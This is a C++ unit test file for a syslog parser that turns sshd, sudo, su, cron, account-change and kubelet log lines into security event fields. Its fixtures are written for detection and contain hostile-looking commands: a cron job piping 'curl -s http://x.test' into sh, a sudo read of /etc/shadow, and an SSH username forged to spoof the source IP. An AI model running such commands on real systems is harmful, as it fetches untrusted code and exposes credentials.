// SPDX-License-Identifier: Apache-2.0
#include "log/syslog/reader.h"

#include "log/test_row.h"
#include "log/test_support.h"

namespace ekshume::log::syslog {
namespace {

using testing::Number;
using testing::Parsed;
using testing::Row;
using testing::Text;

Stream WrittenAt(const char* time) {
  Stream stream;
  stream.written = ParseTimestamp(time);
  return stream;
}

event::Event Read(const std::string& line) {
  const Stream stream = WrittenAt("2026-11-25T00:00:00Z");
  Parsed parsed;
  testing::Parse(SyslogFormat(), line, parsed, stream);
  EXPECT_EQ(parsed.outcome, Outcome::kEvents) << line;
  EXPECT_TRUE(parsed.diagnostics.Sorted().empty());
  return parsed.events.size() == 1 ? parsed.events[0] : event::Event();
}

// What a program's message becomes.
std::string RowOf(const std::string& program, const std::string& message) {
  return Row(Read("Nov 24 21:39:08 node " + program + "[7]: " + message));
}

std::string Expected(const std::string& columns) {
  return "time=2026-11-24T21:39:08.000000000Z\ntime_kind=Event Time\nnode=node\n" + columns;
}

TEST(Syslog, ReadsLoginsOfSshd) {
  EXPECT_EQ(RowOf("sshd",
                  "Accepted publickey for ec2-user from 203.0.113.7 port 50000 ssh2: "
                  "ED25519 SHA256:abc/def"),
            Expected("user_name=ec2-user\nsource_ip=203.0.113.7\naction=login\noutcome=success\n"
                     "process=sshd\n"
                     "message=Accepted publickey for ec2-user from 203.0.113.7 port 50000 ssh2: "
                     "ED25519 SHA256:abc/def\n"
                     "tags=method=publickey key=SHA256:abc/def\nsource_port=50000\npid=7\n"));
  EXPECT_EQ(RowOf("sshd-session",
                  "Failed password for invalid user admin from 203.0.113.7 port "
                  "50000 ssh2"),
            Expected("user_name=admin\nsource_ip=203.0.113.7\naction=login\noutcome=failure\n"
                     "error=Failed password\nprocess=sshd-session\n"
                     "message=Failed password for invalid user admin from 203.0.113.7 port 50000 "
                     "ssh2\n"
                     "tags=method=password invalid_user\nsource_port=50000\npid=7\n"));
}

TEST(Syslog, IsNotFooledByTheNamesThatAttackersChoose) {
  const event::Event event = Read(
      "Nov 24 21:39:08 node sshd[7]: Failed password for invalid user root from 10.0.0.1 port 1 "
      "ssh2 from 203.0.113.7 port 50000 ssh2");
  EXPECT_EQ(event[Text::kSourceIp], "203.0.113.7");
  EXPECT_EQ(event[Text::kUserName], "root from 10.0.0.1 port 1 ssh2");
}

TEST(Syslog, ReadsWhatElseHappensToSessions) {
  struct Case {
    const char* program;
    const char* message;
    const char* action;
    const char* user;
    const char* outcome;
    const char* source_ip;
  };
  const Case cases[] = {
      {"sshd", "Invalid user test from 203.0.113.7 port 1", "login", "test", "failure",
       "203.0.113.7"},
      {"sshd",
       "error: maximum authentication attempts exceeded for root from 203.0.113.7 port 1 ssh2 "
       "[preauth]",
       "login", "root", "failure", "203.0.113.7"},
      {"sshd", "Disconnected from user alice 203.0.113.7 port 1", "logout", "alice", "success",
       "203.0.113.7"},
      {"sshd", "Connection closed by authenticating user root 203.0.113.7 port 1 [preauth]", "",
       "root", "", "203.0.113.7"},
      {"sshd", "Received disconnect from 203.0.113.7 port 1:11: bye", "", "", "", "203.0.113.7"},
      {"sshd", "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
       "session_opened", "root", "success", ""},
      {"sudo", "pam_unix(sudo:session): session closed for user root", "session_closed", "root",
       "success", ""},
      {"sshd",
       "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
       "rhost=203.0.113.7  user=root",
       "authentication", "root", "failure", "203.0.113.7"},
      {"su", "(to root) alice on pts/0", "su", "alice", "success", ""},
      {"su", "FAILED SU (to root) alice on pts/0", "su", "alice", "failure", ""},
      {"su", "Successful su for root by alice", "su", "alice", "success", ""},
      {"kernel", "something", "", "", "", ""},
  };
  for (const Case& c : cases) {
    const event::Event event =
        Read("Nov 24 21:39:08 node " + std::string(c.program) + "[7]: " + c.message);
    EXPECT_EQ(event[Text::kAction], c.action) << c.message;
    EXPECT_EQ(event[Text::kUserName], c.user) << c.message;
    EXPECT_EQ(event[Text::kOutcome], c.outcome) << c.message;
    EXPECT_EQ(event[Text::kSourceIp], c.source_ip) << c.message;
  }
}

TEST(Syslog, ReadsSudoAndCron) {
  const event::Event sudo = Read(
      "Nov 24 21:39:08 node sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
      "COMMAND=/bin/cat /etc/shadow");
  EXPECT_EQ(sudo[Text::kAction], "sudo");
  EXPECT_EQ(sudo[Text::kUserName], "alice");
  EXPECT_EQ(sudo[Text::kObjectName], "root");
  EXPECT_EQ(sudo[Text::kCommandLine], "/bin/cat /etc/shadow");
  EXPECT_EQ(sudo[Text::kPath], "/bin/cat");
  EXPECT_EQ(sudo[Text::kOutcome], "success");
  EXPECT_EQ(sudo[Text::kTags], "tty=pts/0 pwd=/home/alice");
  const event::Event refused = Read(
      "Nov 24 21:39:08 node sudo: eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; "
      "COMMAND=/bin/sh");
  EXPECT_EQ(refused[Text::kOutcome], "failure");
  EXPECT_EQ(refused[Text::kError], "user NOT in sudoers");
  const event::Event cron =
      Read("Nov 24 21:39:08 node CRON[9]: (root) CMD (curl -s http://x.test | sh)");
  EXPECT_EQ(cron[Text::kAction], "cron");
  EXPECT_EQ(cron[Text::kUserName], "root");
  EXPECT_EQ(cron[Text::kCommandLine], "curl -s http://x.test | sh");
  EXPECT_EQ(Read("Nov 24 21:39:08 node crontab[9]: (root) REPLACE (bob)")[Text::kObjectName],
            "bob");
}

TEST(Syslog, ReadsChangesOfAccounts) {
  struct Case {
    const char* program;
    const char* message;
    const char* action;
    const char* name;
    const char* tags;
  };
  const Case cases[] = {
      {"useradd", "new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash",
       "user_added", "eve", "uid=1001 shell=/bin/bash"},
      {"groupadd", "new group: name=eve, GID=1001", "group_added", "eve", "gid=1001"},
      {"usermod", "add 'eve' to group 'sudo'", "group_member_added", "eve", "group=sudo"},
      {"usermod", "add 'eve' to shadow group 'sudo'", "group_member_added", "eve", "group=sudo"},
      {"usermod", "change user 'eve' password", "password_changed", "eve", ""},
      {"usermod", "change user 'eve' shell from '/bin/sh' to '/bin/bash'", "user_changed", "eve",
       ""},
      {"userdel", "delete user 'eve'", "user_deleted", "eve", ""},
      {"gpasswd", "user eve added by root to group docker", "group_member_added", "eve",
       "group=docker"},
      {"passwd", "pam_unix(passwd:chauthtok): password changed for eve", "password_changed", "eve",
       ""},
  };
  for (const Case& c : cases) {
    const event::Event event =
        Read("Nov 24 21:39:08 node " + std::string(c.program) + "[7]: " + c.message);
    EXPECT_EQ(event[Text::kAction], c.action) << c.message;
    EXPECT_EQ(event[Text::kObjectName], c.name) << c.message;
    EXPECT_EQ(event[Text::kTags], c.tags) << c.message;
  }
}

TEST(Syslog, TakesTheYearFromTheFile) {
  const Stream stream = WrittenAt("2026-01-02T00:00:00Z");
  Parsed parsed;
  testing::Parse(SyslogFormat(), "Dec 31 23:59:59 node a: x", parsed, stream);
  testing::Parse(SyslogFormat(), "Jan  1 00:00:01 node a: x", parsed, stream);
  testing::Parse(SyslogFormat(), "Jan  1 00:00:01 node a: x", parsed);
  testing::Parse(SyslogFormat(), "Jan  1 00:00:01 node a: x", parsed, stream,
                 ParseTimestamp("2020-01-01T00:00:02Z"));
  ASSERT_EQ(parsed.events.size(), 4u);
  EXPECT_EQ(parsed.events[0].time, ParseTimestamp("2025-12-31T23:59:59Z"));
  EXPECT_EQ(parsed.events[1].time, ParseTimestamp("2026-01-01T00:00:01Z"));
  EXPECT_FALSE(parsed.events[2].time);
  EXPECT_EQ(parsed.events[3].time, ParseTimestamp("2020-01-01T00:00:01Z"));
}

TEST(Syslog, ReadsRfc5424) {
  const event::Event event =
      Read(R"(<34>1 2003-10-11T22:14:15.003Z mymachine.example su - ID47 [a@1 x="\"]" y="1"][b@1] )"
           "\xef\xbb\xbf(to root) alice on /dev/pts/8");
  EXPECT_EQ(Row(event),
            "time=2003-10-11T22:14:15.003000000Z\ntime_kind=Event Time\n"
            "node=mymachine.example\nuser_name=alice\naction=su\nobject_kind=user\n"
            "object_name=root\noutcome=success\nseverity=critical\nprocess=su\n"
            "message=(to root) alice on /dev/pts/8\n");
  const event::Event bare = Read("<165>1 - - app 42 - - ");
  EXPECT_EQ(bare[Text::kNode], "");
  EXPECT_EQ(bare[Text::kProcess], "app");
  EXPECT_EQ(bare[Number::kPid], 42);
  EXPECT_EQ(bare[Text::kSeverity], "notice");
}

TEST(Syslog, ReadsIsoTimesAndKlogLevels) {
  const event::Event event = Read(
      "2026-11-24T21:39:08.123456+02:00 ip-10-0-0-1 kubelet[1234]: E1124 21:39:08.1 1234 x.go:7] "
      "no");
  EXPECT_EQ(event.time, ParseTimestamp("2026-11-24T19:39:08.123456Z"));
  EXPECT_EQ(event[Text::kNode], "ip-10-0-0-1");
  EXPECT_EQ(event[Text::kProcess], "kubelet");
  EXPECT_EQ(event[Text::kSeverity], "error");
  EXPECT_EQ(Read("2026-11-24T21:39:08+0000 node kernel: x")[Text::kProcess], "kernel");
}

TEST(Syslog, SniffsLinesApart) {
  const std::pair<const char*, Match> cases[] = {
      {"Nov 24 21:39:08 node sshd[7]: x", Match::kYes},
      {"Nov 24 21:39:08 node last message repeated 2 times", Match::kMaybe},
      {"<13>Nov 24 21:39:08 node a: x", Match::kYes},
      {"<13>1 - - - - - -", Match::kYes},
      {"2026-11-24T21:39:08Z node-1 app: x", Match::kMaybe},
      {"2026-11-24T21:39:08Z INFO main: started", Match::kNo},
      {"2026-11-24T21:39:08Z stdout F sshd[7]: x", Match::kNo},
      {"I1124 21:39:08.123456       1 flags.go:59] FLAG: --a", Match::kNo},
      {"<999>1 - - - - - -", Match::kNo},
      {"Nov 34 21:39:08 node sshd[7]: x", Match::kNo},
      {"Nov 24 21:39:08", Match::kNo},
      {"", Match::kNo}};
  for (const auto& [line, match] : cases) EXPECT_EQ(SyslogFormat().Sniff(line), match) << line;
}

TEST(Syslog, SurvivesEveryDamage) {
  const Stream stream = WrittenAt("2026-11-25T00:00:00Z");
  for (const char* line :
       {"Nov 24 21:39:08 node sshd[7]: Accepted publickey for ec2-user from 203.0.113.7 port 50000 "
        "ssh2: ED25519 SHA256:abc",
        "<34>1 2003-10-11T22:14:15.003Z host sudo 7 ID47 [a@1 x=\"1\"] eve : TTY=pts/0 ; USER=root "
        "; "
        "COMMAND=/bin/sh",
        "2026-11-24T21:39:08+00:00 node-1 CRON[9]: (root) CMD (x)",
        "Nov 24 21:39:08 node usermod[7]: add 'eve' to group 'sudo'",
        "Nov 24 21:39:08 node su[7]: pam_unix(su:auth): authentication failure; rhost=  "
        "user=root"}) {
    testing::ParseEveryDamage(SyslogFormat(), line, stream);
  }
}

TEST(Syslog, GivesTheLinesOfTheKubeletToTheirFormat) {
  Parsed parsed;
  Stream stream;
  stream.written = ParseTimestamp("2026-11-25T00:00:00Z");
  testing::Parse(SyslogFormat(),
                 R"(Nov 24 21:39:08 ip-10-0-0-1 kubelet[900]: I1124 21:39:08.123456     900 )"
                 R"(kubelet.go:2] "SyncLoop ADD" pod="shop/web-1")",
                 parsed, stream);
  ASSERT_EQ(parsed.events.size(), 1U);
  const event::Event& event = parsed.events[0];
  EXPECT_EQ(event[Text::kSource], "klog");
  EXPECT_EQ(event[Text::kPod], "web-1");
  EXPECT_EQ(event[Text::kNamespace], "shop");
  EXPECT_EQ(event[Text::kNode], "ip-10-0-0-1");
  EXPECT_EQ(event[Text::kProcess], "kubelet");
  EXPECT_EQ(event.time, ParseTimestamp("2026-11-24T21:39:08.123456Z"));
}

}  // namespace
}  // namespace ekshume::log::syslog
